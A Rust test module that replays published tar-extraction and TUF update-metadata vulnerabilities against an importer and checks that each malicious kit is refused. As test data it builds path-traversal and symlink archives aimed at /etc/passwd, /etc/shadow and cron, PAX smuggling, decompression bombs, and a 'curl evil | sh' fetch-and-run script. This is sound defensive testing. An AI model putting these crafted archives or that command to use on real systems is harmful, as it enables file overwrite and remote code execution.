//! Published vulnerabilities of programs that do what this one does, each as its own case.
//!
//! A case plays the published attack on this importer. Those that attack something which this
//! program does not have (a registry, a keyless signature) are rows of docs/threats.md with
//! that reason, and [`PUBLISHED`] makes sure that none is forgotten.

use std::fs;
use std::sync::atomic::{AtomicBool, Ordering};

use domain::digest::Digest;
use forge::{Vendor, bend_json, bend_root, compress, entry, forged, header, sign, summed, tar, with_file};
use importer::Progress;
use ouk::keys::Role;
use serde_json::{Value, json};

use super::archive::{behind, extension, link};
use super::bench::HELD;
use super::{Bench, Letter, attacks};

attacks! {
    cve_2018_20990_a_hard_link_overwrites_a_file "CVE-2018-20990" ["E-TYPE"];
    cve_2021_38511_a_link_then_a_directory_through_it "CVE-2021-38511" ["E-TYPE"];
    cve_2026_33056_a_directory_entry_changes_the_mode_of_a_links_target "CVE-2026-33056" ["E-TYPE"];
    cve_2026_33055_a_pax_size_that_one_reader_ignores "CVE-2026-33055" ["E-EXT"];
    ghsa_3cv2_h65g_fgmm_a_pax_header_between_a_long_name_and_its_file "GHSA-3cv2-h65g-fgmm" ["E-EXT"];
    cve_2025_62518_pax_size_smuggling "CVE-2025-62518" ["E-EXT"];
    cve_2025_29787_a_link_and_a_file_of_its_name "CVE-2025-29787" ["E-TYPE", "E-DUP"];
    cve_2007_4559_names_that_climb "CVE-2007-4559" ["E-NAME"];
    cve_2022_2879_a_pax_header_without_bound "CVE-2022-2879" ["E-EXT", "E-LIMIT"];
    cve_2025_58183_sparse_maps_without_bound "CVE-2025-58183" ["E-EXT"];
    cve_2021_21272_links_in_a_layer "CVE-2021-21272" ["E-TYPE"];
    cve_2026_50163_a_hard_link_out_of_the_layer "CVE-2026-50163" ["E-TYPE"];
    cve_2024_24579_a_layer_writes_outside "CVE-2024-24579" ["E-NAME", "E-TYPE"];
    cve_2021_3762_a_package_database_that_is_a_link "CVE-2021-3762" ["E-TYPE"];
    cve_2024_0406_a_link_that_later_entries_follow "CVE-2024-0406" ["E-TYPE"];
    cve_2026_40090_names_from_inside_become_paths "CVE-2026-40090" ["E-NAME"];
    cve_2026_54448_an_archive_that_expands_without_bound "CVE-2026-54448" ["E-LIMIT"];
    cve_2026_33634_signed_and_malicious_data_is_not_run "CVE-2026-33634" ["E-SEM", "accepted"];
    cve_2020_15093_one_key_counts_twice "CVE-2020-15093" ["E-THRESHOLD"];
    cve_2025_2885_a_root_whose_version_is_not_the_next "CVE-2025-2885" ["E-ROOT-VERSION", "E-ROOT-GAP"];
    cve_2025_2886_a_terminating_delegation_is_passed_over "CVE-2025-2886" ["E-TGT-SCOPE", "E-TGT-DELEGATION"];
    cve_2025_2887_a_delegated_role_goes_back "CVE-2025-2887" ["E-TGT-ROLLBACK"];
    cve_2025_2888_a_refused_timestamp_is_remembered "CVE-2025-2888" ["E-MIX", "accepted"];
    ghsa_j8x2_777p_23fc_delegations_in_a_circle "GHSA-j8x2-777p-23fc" ["E-TGT-DELEGATION"];
    cve_2020_15163_a_bad_root_is_remembered "CVE-2020-15163" ["E-ROOT-SIG", "accepted"];
    cve_2022_29173_snapshot_and_timestamp_go_back "CVE-2022-29173" ["E-TS-ROLLBACK", "E-SNAP-ROLLBACK"];
    cve_2024_47534_delegations_in_another_order "CVE-2024-47534" ["E-TGT-SCOPE"];
    cve_2026_23991_metadata_of_the_wrong_shape "CVE-2026-23991" ["E-SCHEMA", "E-JSON"];
    cve_2026_23992_a_threshold_of_zero "CVE-2026-23992" ["E-SCHEMA"];
    cve_2026_24686_a_name_in_metadata_that_climbs "CVE-2026-24686" ["E-TGT-DELEGATION", "E-NAME"];
    cve_2022_35929_an_attestation_about_something_else "CVE-2022-35929" ["E-SEAL"];
    cve_2026_39395_what_does_not_parse_passes "CVE-2026-39395" ["E-JSON", "E-SEAL"];
    cve_2023_33957_signatures_without_bound "CVE-2023-33957" ["E-LIMIT"];
    cve_2024_45395_metadata_without_bound "CVE-2024-45395" ["E-LIMIT"];
    cve_2023_30551_a_small_upload_that_becomes_large "CVE-2023-30551" ["E-LIMIT"];
    cve_2024_23332_an_older_signed_release "CVE-2024-23332" ["E-TS-ROLLBACK"];
    cve_2020_25860_the_bundle_changes_after_it_was_verified "CVE-2020-25860" ["accepted"];
    cve_2020_10759_no_signature_passes_as_a_good_one "CVE-2020-10759" ["E-TS-SIG", "E-TGT-SIG", "E-SCHEMA"];
}

pub(crate) const LETTER: Letter = Letter { cases: CASES, elsewhere: &[], open: &[] };

/// The published list that docs/threats.md has to answer, one row each.
pub(crate) const PUBLISHED: &[&str] = &[
    "CVE-2018-20990",
    "CVE-2021-38511",
    "CVE-2026-33056",
    "CVE-2026-33055",
    "GHSA-3cv2-h65g-fgmm",
    "CVE-2025-62518",
    "RUSTSEC-2026-0066",
    "RUSTSEC-2026-0112",
    "RUSTSEC-2026-0113",
    "CVE-2025-29787",
    "CVE-2007-4559",
    "GH-149486",
    "CVE-2022-2879",
    "CVE-2025-58183",
    "GO-2026-4869",
    "CVE-2021-21272",
    "CVE-2026-50162",
    "CVE-2026-50163",
    "CVE-2024-24579",
    "CVE-2021-3762",
    "CVE-2024-0406",
    "CVE-2026-29064",
    "CVE-2026-40090",
    "CVE-2026-54448",
    "CVE-2026-33634",
    "CVE-2024-39897",
    "CVE-2025-23208",
    "CVE-2025-48374",
    "CVE-2026-31801",
    "CVE-2022-31668",
    "GHSA-prh4-vhfh-24mj",
    "CVE-2020-15093",
    "CVE-2025-2885",
    "CVE-2025-2886",
    "CVE-2025-2887",
    "CVE-2025-2888",
    "GHSA-j8x2-777p-23fc",
    "CVE-2020-15163",
    "CVE-2022-29173",
    "CVE-2024-47534",
    "CVE-2026-23991",
    "CVE-2026-23992",
    "CVE-2026-24686",
    "CVE-2022-35929",
    "CVE-2026-22703",
    "CVE-2026-24122",
    "CVE-2026-39395",
    "CVE-2023-30551",
    "CVE-2026-48702",
    "CVE-2024-45395",
    "CVE-2026-49834",
    "CVE-2026-54787",
    "CVE-2024-23332",
    "CVE-2023-33957",
    "CVE-2024-56138",
    "CVE-2020-25860",
    "CVE-2020-10759",
    "RUSTSEC-2022-0093",
    "RUSTSEC-2024-0344",
    "RUSTSEC-2026-0049",
];

fn cve_2018_20990_a_hard_link_overwrites_a_file(bench: &mut Bench) {
    let canary = bench.path("etc/passwd").display().to_string();
    let more = [&link(b'1', b"META/A", canary.as_bytes()), &entry("META/A", b"overwritten")[..]].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("a hard link, then a file of its name", &kit, "E-TYPE");
}

fn cve_2021_38511_a_link_then_a_directory_through_it(bench: &mut Bench) {
    let more = [&link(b'2', b"META/A", b"/tmp")[..], &link(b'5', b"META/A/new", b"")].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("a directory below a link", &kit, "E-TYPE");
}

fn cve_2026_33056_a_directory_entry_changes_the_mode_of_a_links_target(bench: &mut Bench) {
    let mut directory = link(b'5', b"META/A", b"");
    directory[100..108].copy_from_slice(b"0000777\0");
    let etc = bench.path("etc").display().to_string();
    let more = [link(b'2', b"META/A", etc.as_bytes()), summed(directory)].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("a link, then a directory of its name and mode 0777", &kit, "E-TYPE");
}

/// A file whose header says one size and whose PAX header another, with an archive in the difference.
fn smuggled(bench: &Bench, header_size: u64) -> Vec<u8> {
    let hidden = entry("META/evil", b"evil");
    let file = [header(b"META/B", header_size).as_slice(), &hidden].concat();
    extension(bench, b'x', format!("13 size={:04}\n", hidden.len()).as_bytes(), &file)
}

fn cve_2026_33055_a_pax_size_that_one_reader_ignores(bench: &mut Bench) {
    let kit = smuggled(bench, 512);
    bench.refuse("a header size that is not zero", &kit, "E-EXT");
}

fn cve_2025_62518_pax_size_smuggling(bench: &mut Bench) {
    let kit = smuggled(bench, 0);
    bench.refuse("a header size of zero, and an archive in the body", &kit, "E-EXT");
}

fn ghsa_3cv2_h65g_fgmm_a_pax_header_between_a_long_name_and_its_file(bench: &mut Bench) {
    let pax = forged(b"META/P", 12, 156, b"x");
    let mut records = b"12 size=512\n".to_vec();
    records.resize(512, 0);
    let kit = extension(bench, b'L', b"META/evil\0", &[&pax, &records[..], &entry("META/B", b"x")].concat());
    bench.refuse("L, x, file", &kit, "E-EXT");
    let kit = extension(
        bench,
        b'x',
        b"12 size=512\n",
        &[&forged(b"META/L", 0, 156, b"L"), &entry("META/B", b"x")[..]].concat(),
    );
    bench.refuse("x, L, file", &kit, "E-EXT");
}

fn cve_2025_29787_a_link_and_a_file_of_its_name(bench: &mut Bench) {
    let more = [&link(b'2', b"META/A", b"../../etc/passwd"), &entry("META/A", b"evil")[..]].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("the link comes first", &kit, "E-TYPE");
    let more = [entry("META/A", b"a"), entry("META/A", b"b")].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("two files of one name", &kit, "E-DUP");
}

fn cve_2007_4559_names_that_climb(bench: &mut Bench) {
    for name in ["../../etc/passwd", "META/../../../etc/passwd", "/etc/passwd"] {
        let kit = behind(bench, &header(name.as_bytes(), 0), b"");
        bench.refuse(name, &kit, "E-NAME");
    }
}

fn cve_2022_2879_a_pax_header_without_bound(bench: &mut Bench) {
    let kit = extension(bench, b'x', &vec![b'a'; 6 << 20], b"");
    bench.refuse("6 MiB of PAX records", &kit, "E-EXT");
    let kit = extension(bench, b'x', &vec![b'a'; 9 << 20], b"");
    bench.refuse("9 MiB of them", &kit, "E-LIMIT");
}

fn cve_2025_58183_sparse_maps_without_bound(bench: &mut Bench) {
    let map = format!("28 GNU.sparse.major=1\n{}", "1\n".repeat(1_000_000));
    let kit = extension(bench, b'x', map.as_bytes(), &entry("META/B", b"x"));
    bench.refuse("a million regions", &kit, "E-EXT");
}

fn links(bench: &mut Bench, typeflags: &[u8]) {
    let canary = bench.path("etc/passwd").display().to_string();
    for &typeflag in typeflags {
        for target in [canary.as_str(), "../../etc/passwd", "/etc/passwd"] {
            let kit = behind(bench, &link(typeflag, b"META/A", target.as_bytes()), b"");
            bench.refuse(&format!("{} {target}", char::from(typeflag)), &kit, "E-TYPE");
        }
    }
}

fn cve_2021_21272_links_in_a_layer(bench: &mut Bench) {
    links(bench, b"12");
}

fn cve_2026_50163_a_hard_link_out_of_the_layer(bench: &mut Bench) {
    links(bench, b"1");
}

fn cve_2024_24579_a_layer_writes_outside(bench: &mut Bench) {
    cve_2007_4559_names_that_climb(bench);
    links(bench, b"2");
}

fn cve_2021_3762_a_package_database_that_is_a_link(bench: &mut Bench) {
    // There a database was linked to a file of the host; here a signed blob is a link.
    let mut draft = bench.draft();
    let mut blob = entry(&format!("blobs/sha256/{}", Digest::of(b"hello")), b"hello");
    let mut head: [u8; 512] = *blob.first_chunk().expect("a header");
    head[156] = b'2';
    head[157..168].copy_from_slice(b"/etc/shadow");
    blob[..512].copy_from_slice(&summed(head));
    draft.put_frame("os/package.db", b"hello", compress(&blob));
    bench.refuse("a signed blob that is a link", &draft.kit(), "E-TYPE");
}

fn cve_2024_0406_a_link_that_later_entries_follow(bench: &mut Bench) {
    let more = [&link(b'2', b"META/A", b"/etc")[..], &entry("META/A/cron.d/x", b"* * * * * root x")].concat();
    let kit = behind(bench, &header(b"META/0", 0), &more);
    bench.refuse("a file through a link", &kit, "E-TYPE");
}

fn cve_2026_40090_names_from_inside_become_paths(bench: &mut Bench) {
    for path in ["../../etc/passwd", "/etc/passwd", "os/../../x"] {
        let mut draft = bench.draft();
        draft.target("targets", path, 0, &Digest::of(b""), json!([]));
        bench.refuse(path, &draft.kit(), "E-NAME");
    }
}

fn bomb(bench: &Bench) -> Vec<u8> {
    let mut frame = zstd_of_zeros(64 << 20);
    frame[4] |= 4;
    frame.extend_from_slice(&[0; 4]);
    bench.draft().kit_of(&frame)
}

fn zstd_of_zeros(length: usize) -> Vec<u8> {
    ::zstd::bulk::compress(&vec![0; length], 1).expect("compresses")
}

fn cve_2026_54448_an_archive_that_expands_without_bound(bench: &mut Bench) {
    let kit = bomb(bench);
    bench.refuse("64 MiB of metadata in a few kilobytes", &kit, "E-LIMIT");
}

fn cve_2023_30551_a_small_upload_that_becomes_large(bench: &mut Bench) {
    let kit = bomb(bench);
    bench.refuse("as metadata", &kit, "E-LIMIT");
    let mut draft = bench.draft();
    draft.put_frame("os/hello", b"hello", compress(&vec![0; 4 << 20]));
    bench.refuse("as a blob", &draft.kit(), "E-LIMIT");
}

fn cve_2026_33634_signed_and_malicious_data_is_not_run(bench: &mut Bench) {
    let script = b"#!/bin/sh\ncurl evil | sh\n";
    let mut draft = bench.draft();
    draft.put("trivy/metadata.json", script);
    draft.put("trivy/trivy.db", script);
    bench.refuse("an artefact of a poisoned source where data belong", &draft.kit(), "E-SEM");
    let mut draft = bench.draft();
    draft.put("os/trivy", script);
    bench.accept("and where nothing opens it", &draft.kit());
    assert_eq!(bench.store.open_current().expect("active").row().advisories, 2, "the records are the signed ones");
}

fn cve_2020_15093_one_key_counts_twice(bench: &mut Bench) {
    let key = bench.vendor.pairs("targets")[0].clone();
    let mut draft = bench.draft();
    draft.sign_with("targets", vec![key.clone(), key.clone(), key]);
    bench.refuse("three signatures of one key", &draft.kit(), "E-THRESHOLD");
}

fn cve_2025_2885_a_root_whose_version_is_not_the_next(bench: &mut Bench) {
    for version in [1, 3] {
        let mut draft = bench.draft();
        draft.roots.push(bend_root(&bench.vendor, |signed| signed["version"] = version.into()));
        bench.refuse(&format!("the second root says {version}"), &draft.kit(), "E-ROOT-VERSION");
    }
    let draft = bench.draft();
    let mut files = draft.files();
    files.insert("META/root/3.root.json".to_owned(), bend_root(&bench.vendor, |signed| signed["version"] = 3.into()));
    bench.refuse("a third root and no second", &draft.kit_of(&compress(&tar(&files))), "E-ROOT-GAP");
}

fn cve_2025_2886_a_terminating_delegation_is_passed_over(bench: &mut Bench) {
    let mut draft = bench.draft();
    draft.role("targets")["delegations"]["roles"][1]["paths"] = json!(["feeds/*"]);
    draft.target("trivydb", "feeds/z", 0, &Digest::of(b""), json!([]));
    bench.refuse("a path of the role before", &draft.kit(), "E-TGT-SCOPE");
    let mut draft = bench.draft();
    draft.role("targets")["delegations"]["roles"][0]["terminating"] = false.into();
    bench.refuse("a delegation that does not terminate", &draft.kit(), "E-TGT-DELEGATION");
}

fn cve_2025_2887_a_delegated_role_goes_back(bench: &mut Bench) {
    for role in ["feeds", "trivydb", "entitlements"] {
        let mut draft = bench.draft();
        draft.role(role)["version"] = (HELD - 1).into();
        bench.refuse(role, &draft.kit(), "E-TGT-ROLLBACK");
    }
}

fn cve_2025_2888_a_refused_timestamp_is_remembered(bench: &mut Bench) {
    // A timestamp of kit 9 that verifies, with a snapshot that does not belong to it.
    let (nine, six) = (bench.draft_of(9, 2), bench.draft_of(6, 2));
    let mut files = six.files();
    files.insert("META/timestamp.json".to_owned(), nine.files()["META/timestamp.json"].clone());
    bench.refuse("timestamp 9 with kit 6", &six.kit_of(&compress(&tar(&files))), "E-MIX");
    bench.accept("kit 6 as it is", &six.kit());
}

fn ghsa_j8x2_777p_23fc_delegations_in_a_circle(bench: &mut Bench) {
    let mut draft = bench.draft();
    let circle = draft.role("targets")["delegations"].clone();
    for role in ["feeds", "trivydb"] {
        draft.role(role)["delegations"] = circle.clone();
    }
    bench.refuse("feeds delegates to feeds", &draft.kit(), "E-TGT-DELEGATION");
}

fn cve_2020_15163_a_bad_root_is_remembered(bench: &mut Bench) {
    bench.vendor.rotate(Role::Root, 5);
    let mut bad = bench.draft();
    let signed = serde_json::from_slice::<Value>(&bad.roots[1]).expect("JSON")["signed"].clone();
    bad.roots[1] = sign(&signed, &bench.vendor.pairs("root").iter().take(2).collect::<Vec<_>>()[..0]);
    bench.refuse("root 2 without signatures", &bad.kit(), "E-ROOT-SIG");
    let kit = bench.draft().kit();
    bench.accept("root 2 as it should be", &kit);
}

fn cve_2022_29173_snapshot_and_timestamp_go_back(bench: &mut Bench) {
    for (role, expected) in [("timestamp", "E-TS-ROLLBACK"), ("snapshot", "E-SNAP-ROLLBACK")] {
        let mut draft = bench.draft();
        draft.role(role)["version"] = (HELD - 1).into();
        bench.refuse(role, &draft.kit(), expected);
    }
}

fn cve_2024_47534_delegations_in_another_order(bench: &mut Bench) {
    // feeds owns its paths because it stands first. Whoever signs the order decides, and a later role never wins.
    let mut draft = bench.draft();
    let roles = draft.role("targets")["delegations"]["roles"].as_array_mut().expect("roles");
    roles[2]["paths"] = json!(["feeds/*", "feeds/*/*"]);
    roles.swap(0, 2);
    bench.refuse("a role that was put first owns the paths of feeds", &draft.kit(), "E-TGT-SCOPE");
}

fn cve_2026_23991_metadata_of_the_wrong_shape(bench: &mut Bench) {
    for role in ["timestamp", "snapshot", "targets", "feeds"] {
        for shape in [json!(null), json!([]), json!({}), json!("x"), json!(7)] {
            let draft = bench.draft();
            let files = draft.files_with(&|bent, bytes| {
                if bent == role { bend_json(&bytes, |value| value["signed"] = shape.clone()) } else { bytes }
            });
            bench.refuse(&format!("{role} is {shape}"), &draft.kit_of(&compress(&tar(&files))), "E-SCHEMA");
        }
    }
    let kit = with_file(&bench.draft(), "META/timestamp.json", |_| b"[".repeat(50_000));
    bench.refuse("nesting without end", &kit, "E-JSON");
}

fn cve_2026_23992_a_threshold_of_zero(bench: &mut Bench) {
    let mut draft = bench.draft();
    draft.role("targets")["delegations"]["roles"][0]["threshold"] = 0.into();
    draft.sign_with("feeds", vec![]);
    bench.refuse("nobody has to sign, and nobody did", &draft.kit(), "E-SCHEMA");
}

fn cve_2026_24686_a_name_in_metadata_that_climbs(bench: &mut Bench) {
    for name in ["../../x", "a/b", "..", "/x"] {
        let mut draft = bench.draft();
        draft.role("targets")["delegations"]["roles"][0]["name"] = name.into();
        bench.refuse(&format!("a role {name:?}"), &draft.kit(), "E-TGT-DELEGATION");
    }
    let mut draft = bench.draft();
    draft.target("targets", "../../x", 0, &Digest::of(b""), json!([]));
    bench.refuse("a target", &draft.kit(), "E-NAME");
}

fn cve_2022_35929_an_attestation_about_something_else(bench: &mut Bench) {
    let (kit, other) = (bench.draft().kit(), b"another file".as_slice());
    let comment = ouk::seal::TrustedComment { kit: 6, root: 1, targets: 6, sha256: Digest::of(other) };
    let seal = ouk::seal::sign_minisign(other, &bench.vendor.seal_key.0, None, &comment).expect("signs");
    bench.seal = Some((seal, bench.vendor.seal_key.1.clone()));
    bench.refuse("a good seal of another file", &kit, "E-SEAL");
}

fn cve_2026_39395_what_does_not_parse_passes(bench: &mut Bench) {
    for role in ["timestamp", "snapshot", "targets", "feeds", "trivydb", "entitlements"] {
        let draft = bench.draft();
        let files = draft.files_with(&|bent, bytes| if bent == role { b"{".to_vec() } else { bytes });
        bench.refuse(role, &draft.kit_of(&compress(&tar(&files))), "E-JSON");
    }
    let kit = bench.draft().kit();
    bench.seal = Some(("garbage".to_owned(), bench.vendor.seal_key.1.clone()));
    bench.refuse("a seal", &kit, "E-SEAL");
}

fn cve_2023_33957_signatures_without_bound(bench: &mut Bench) {
    for role in ["timestamp", "feeds"] {
        let draft = bench.draft();
        let files = draft.files_with(&|bent, bytes| {
            if bent != role {
                return bytes;
            }
            bend_json(&bytes, |value| value["signatures"] = vec![value["signatures"][0].clone(); 5_000].into())
        });
        bench.refuse(role, &draft.kit_of(&compress(&tar(&files))), "E-LIMIT");
    }
}

fn cve_2024_45395_metadata_without_bound(bench: &mut Bench) {
    let mut draft = bench.draft();
    draft.role("feeds")["x"] = "x".repeat(7 << 20).into();
    bench.refuse("7 MiB of one role", &draft.kit(), "E-LIMIT");
}

fn cve_2024_23332_an_older_signed_release(bench: &mut Bench) {
    let older = bench.draft_of(HELD - 2, 1).kit();
    bench.refuse("kit 3 on a site that has kit 5", &older, "E-TS-ROLLBACK");
}

fn cve_2020_25860_the_bundle_changes_after_it_was_verified(bench: &mut Bench) {
    let stranger = super::bench::good_draft(&Vendor::new(2), 50, 9).kit();
    let (kit, changed) = (bench.draft().kit(), AtomicBool::new(false));
    let source = bench.medium(&kit);
    let path = bench.path("medium/kit.tar.zst");
    bench.progress = Box::new(move |progress| {
        if matches!(progress, Progress::Verified { .. }) && !changed.swap(true, Ordering::Relaxed) {
            fs::write(&path, &stranger).expect("written");
        }
    });
    let row = bench.import_changing(source).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!((row.kit_sha256, row.advisories), (Digest::of(&kit), 2));
    assert_ne!(fs::read(bench.path("medium/kit.tar.zst")).expect("there"), kit, "the medium did change");
    bench.note("another kit under the same name, once this one was verified", "accepted");
}

fn cve_2020_10759_no_signature_passes_as_a_good_one(bench: &mut Bench) {
    for (role, expected) in [("timestamp", "E-TS-SIG"), ("targets", "E-TGT-SIG"), ("feeds", "E-TGT-SIG")] {
        let mut draft = bench.draft();
        draft.sign_with(role, vec![]);
        bench.refuse(&format!("{role} is signed by nobody"), &draft.kit(), expected);
    }
    let kit = with_file(&bench.draft(), "META/timestamp.json", |bytes| {
        let value: Value = serde_json::from_slice(&bytes).expect("JSON");
        forge::canonical(&value["signed"])
    });
    bench.refuse("the signed part without its envelope", &kit, "E-SCHEMA");
}
